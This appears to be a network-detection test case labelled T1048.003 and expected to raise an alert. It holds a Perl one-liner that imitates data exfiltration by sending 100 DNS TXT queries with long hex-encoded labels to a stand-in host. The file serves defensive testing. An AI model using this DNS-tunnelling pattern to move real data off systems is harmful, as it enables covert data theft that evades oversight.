# id: N06b
# title: Data leaves in a hundred long DNS names
# expect: alert
# severity: medium
# kinds: dns, network
# attck: T1048.003
# image: tools
# launch: app
# peers: dns:53

perl -e '
use Socket;
socket(my $s, PF_INET, SOCK_DGRAM, 17) or die $!;
my $address = inet_aton("dns") or die "no such peer\n";
for my $part (1 .. 100) {
    my $data = unpack("H*", pack("N7", map { $part * 2654435761 % 4294967296 ^ $_ } 1 .. 7));
    my $question = pack("n6", $part, 0x0100, 1, 0, 0, 0) . join("", map { pack("C/a", $_) } $data, "t", "example", "net") . pack("C n2", 0, 16, 1);
    send($s, $question, 0, pack_sockaddr_in(53, $address)) or die $!;
    select undef, undef, undef, 0.05;
}'
